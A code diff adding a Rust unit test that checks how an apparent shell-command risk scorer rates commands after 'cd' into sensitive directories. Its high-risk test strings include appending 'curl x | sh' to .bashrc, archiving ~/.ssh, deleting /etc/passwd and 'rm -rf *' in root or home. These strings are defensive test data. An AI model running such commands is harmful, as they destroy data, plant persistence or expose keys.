@@ -529,3 +529,30 @@ fn sensitive_defaults_of_expansions_count() {
         Risk::Low,
     );
 }
+
+/// `cd` into a sensitive directory makes the relative paths after it
+/// sensitive; everyday `cd build && …` stays as it was.
+#[test]
+fn relative_paths_after_cd_into_a_sensitive_directory() {
+    expect(&[
+        ("cd ~; echo 'curl x | sh' >> .bashrc", Risk::High),
+        ("cd\ncp payload .profile", Risk::High),
+        ("cd ~/.ssh; tar czf /tmp/k.tgz .", Risk::High),
+        ("cd /etc; rm -f passwd", Risk::High),
+        ("cd / && rm -rf *", Risk::Critical),
+        ("cd ~ && rm -rf *", Risk::Critical),
+        ("cd /etc && cd nginx && rm -rf *", Risk::High),
+        ("pushd /etc >/dev/null\nrm -rf *", Risk::Critical),
+    ]);
+    at_most(
+        &[
+            "cd build && rm -rf *.o",
+            "cd ~/projects/app && rm -rf node_modules",
+            "cd /tmp && rm -rf scratch",
+            "(cd /etc && ls); rm -rf build",
+            "cd ~ && cd projects/app && rm -rf dist",
+            "cd /etc; cd -; rm -rf build",
+        ],
+        Risk::Low,
+    );
+}
